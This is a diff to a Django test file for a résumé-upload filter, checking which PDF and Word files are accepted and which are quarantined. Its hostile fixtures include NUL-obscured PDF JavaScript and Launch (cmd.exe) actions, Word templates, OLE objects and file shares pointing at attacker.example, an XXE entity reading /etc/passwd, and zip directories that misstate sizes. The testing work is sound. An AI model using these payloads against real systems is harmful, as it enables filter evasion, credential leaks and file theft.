@@ -16,11 +16,15 @@ from tests.conftest import image_bytes
 
 from .conftest import (
     DOCM_MAIN,
+    REL_TYPES,
     application_data,
     doc_bytes,
     document_xml,
     docx_bytes,
+    docx_with_a_lying_directory,
+    lie_about_size,
     pdf_bytes,
+    relationships_xml,
     stored_files,
     upload,
 )
@@ -85,12 +89,40 @@ def test_the_resume_is_flushed_to_disk_before_its_application_is_recorded(
     assert [(str(stored[0]), 0), (str(stored[0].parent), 0)] == flushed
 
 
-def test_a_pdf_that_opens_at_its_first_page_is_accepted(
-    client, campaign, django_capture_on_commit_callbacks
-):
-    # What Word and LibreOffice write: an /OpenAction that is a destination, not an action.
-    data = pdf_bytes(extra_catalog=b"/OpenAction [3 0 R /XYZ null null 0] ")
+WEB_LINK = (
+    b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] "
+    b"/A << /S /URI /URI (https://www.linkedin.com/in/li-na) >> >>"
+)
 
+
+OPEN_AT_PAGE_1 = {"extra_catalog": b"/OpenAction [3 0 R /XYZ null null 0] "}
+LINK_TO_THE_WEB = {"extra_page": b"/Annots [6 0 R] ", "extra_objects": [WEB_LINK]}
+HARMLESS_PDFS = [
+    # What Word and LibreOffice write: an /OpenAction that is a destination, not an action.
+    pytest.param(pdf_bytes(**OPEN_AT_PAGE_1), id="opens-at-page-1"),
+    pytest.param(
+        pdf_bytes(**OPEN_AT_PAGE_1, object_stream=True), id="opens-at-page-1-in-an-object-stream"
+    ),
+    pytest.param(
+        pdf_bytes(
+            extra_catalog=b"/OpenAction 6 0 R ",
+            extra_objects=[b"[3 0 R /Fit]"],
+            object_stream=True,
+        ),
+        id="opens-at-page-1-by-reference-in-an-object-stream",
+    ),
+    pytest.param(pdf_bytes(**LINK_TO_THE_WEB), id="links-to-a-web-page"),
+    pytest.param(
+        pdf_bytes(**LINK_TO_THE_WEB, object_stream=True),
+        id="links-to-a-web-page-in-an-object-stream",
+    ),
+]
+
+
+@pytest.mark.parametrize("data", HARMLESS_PDFS)
+def test_a_pdf_that_opens_at_its_first_page_or_links_to_the_web_is_accepted(
+    client, campaign, django_capture_on_commit_callbacks, data
+):
     with django_capture_on_commit_callbacks(execute=True):
         response = post(client, application_data(resume=upload("cv.pdf", data)))
 
@@ -98,6 +130,33 @@ def test_a_pdf_that_opens_at_its_first_page_is_accepted(
     application = Application.objects.get()
     assert not application.quarantined
     assert "Zhang Wei" in application.extracted_text
+
+
+def test_a_word_file_with_links_to_the_web_and_pictures_inside_is_accepted(
+    client, campaign, django_capture_on_commit_callbacks
+):
+    rels = relationships_xml(
+        f'Id="rId8" Type="{REL_TYPES}image" Target="media/image1.png"',
+        f'Id="rId9" Type="{REL_TYPES}hyperlink" TargetMode="External" '
+        'Target="https://www.linkedin.com/in/li-na"',
+        f"Id='rId10' Type='{REL_TYPES}hyperlink' TargetMode='External' "
+        "Target='mailto:li.na@example.com'",
+    )
+    data = docx_bytes(
+        extra={
+            "word/_rels/document.xml.rels": rels,
+            "word/media/image1.png": image_bytes("PNG"),
+            "word/styles.xml": '<?xml version="1.0"?><!-- ' + "styles " * 1000 + "--><styles/>",
+        }
+    )
+
+    with django_capture_on_commit_callbacks(execute=True):
+        response = post(client, application_data(resume=upload("cv.docx", data)))
+
+    assert response.status_code == 201, response.json()
+    application = Application.objects.get()
+    assert not application.quarantined
+    assert "Li Na software engineer" in application.extracted_text
 
 
 def test_the_stored_type_follows_the_content_not_the_name(client, campaign):
@@ -178,10 +237,132 @@ HOSTILE_FILES = [
         lambda: bytes.fromhex("D0CF11E0A1B11AE1") + b"\x00" * 1024,
         "not a Word document",
     ),
+    # To a PDF reader NUL is white-space: `/JavaScript\x00` is /JavaScript.
+    (
+        "nul-after-javascript-and-js.pdf",
+        lambda: pdf_bytes(extra_objects=[b"<< /S /JavaScript\x00/JS\x00(app.alert(1)) >>"]),
+        "scripts, macros",
+    ),
+    (
+        "nul-after-launch.pdf",
+        lambda: pdf_bytes(extra_objects=[b"<< /S /Launch\x00/F (cmd.exe) >>"]),
+        "scripts, macros",
+    ),
+    (
+        "nul-after-embedded-file.pdf",
+        lambda: pdf_bytes(extra_objects=[b"<< /Type /EmbeddedFile\x00>>"]),
+        "scripts, macros",
+    ),
+    (
+        "nul-after-open-action.pdf",
+        lambda: pdf_bytes(
+            extra_catalog=b"/OpenAction\x00 6 0 R ", extra_objects=[b"<< /S /URI /URI (x) >>"]
+        ),
+        "scripts, macros",
+    ),
+    (
+        "single-quoted-external-template.docx",
+        lambda: docx_bytes(
+            extra={
+                "word/_rels/settings.xml.rels": relationships_xml(
+                    f"Id='rId1' Type='{REL_TYPES}attachedTemplate' "
+                    "Target='http://attacker.example/cv.dotm' TargetMode='External'"
+                )
+            }
+        ),
+        "outside itself",
+    ),
+    (
+        "external-mode-as-a-character-reference.docx",
+        lambda: docx_bytes(
+            extra={
+                "word/_rels/settings.xml.rels": relationships_xml(
+                    f'Id="rId1" Type="{REL_TYPES}attachedTemplate" '
+                    'Target="http://attacker.example/cv.dotm" TargetMode="&#69;xternal"'
+                )
+            }
+        ),
+        "outside itself",
+    ),
+    (
+        "mhtml-ole-object.docx",
+        lambda: docx_bytes(
+            extra={
+                "word/_rels/document.xml.rels": relationships_xml(
+                    f'Id="rId5" Type="{REL_TYPES}oleObject" TargetMode="External" '
+                    'Target="mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x"'
+                )
+            }
+        ),
+        "outside itself",
+    ),
+    (
+        "picture-on-a-file-share.docx",
+        lambda: docx_bytes(
+            extra={
+                "word/_rels/document.xml.rels": relationships_xml(
+                    f'Id="rId6" Type="{REL_TYPES}image" TargetMode="External" '
+                    'Target="file://attacker.example/share/photo.png"'
+                )
+            }
+        ),
+        "outside itself",
+    ),
+    (
+        "hyperlink-to-a-file-share.docx",
+        lambda: docx_bytes(
+            extra={
+                "word/_rels/document.xml.rels": relationships_xml(
+                    f'Id="rId7" Type="{REL_TYPES}hyperlink" TargetMode="External" '
+                    'Target="\\\\attacker.example\\share\\cv.docx"'
+                )
+            }
+        ),
+        "outside itself",
+    ),
+    (
+        "dtd-after-4kb-of-styles.docx",
+        lambda: docx_bytes(extra={"word/styles.xml": _styles_with_a_late_dtd()}),
+        "damaged",
+    ),
+    (
+        "utf16-dtd-after-4kb-of-styles.docx",
+        lambda: docx_bytes(extra={"word/styles.xml": _styles_with_a_late_dtd().encode("utf-16")}),
+        "damaged",
+    ),
+    # The zip directory lies: each part is larger than it says.
+    (
+        "understated-document-size.docx",
+        lambda: lie_about_size(
+            docx_bytes(document=document_xml(text="a" * 2_000_000)),
+            "word/document.xml",
+            file_size=100_000,
+        ),
+        "damaged",
+    ),
+    (
+        "understated-picture-size.docx",
+        lambda: lie_about_size(
+            docx_bytes(extra={"word/media/image1.png": b"\x00" * 5_000_000}),
+            "word/media/image1.png",
+            file_size=1_000,
+        ),
+        "damaged",
+    ),
+    ("overstated-compressed-size.docx", docx_with_a_lying_directory, "far more data"),
     ("empty.pdf", lambda: b"", "empty"),
     ("just-over-10mb.pdf", lambda: b"%PDF-1.4\n" + b"0" * (10 * 1024 * 1024), "larger than 10 MB"),
     ("notes.txt", lambda: b"just some text", "only PDF, DOC or DOCX"),
 ]
+
+
+def _styles_with_a_late_dtd():
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><!--' + "x" * 5000 + "-->"
+        '<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+        '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        "<w:style><w:name w:val='&xxe;'/></w:style></w:styles>"
+    )
 
 
 def _zip_without_document():
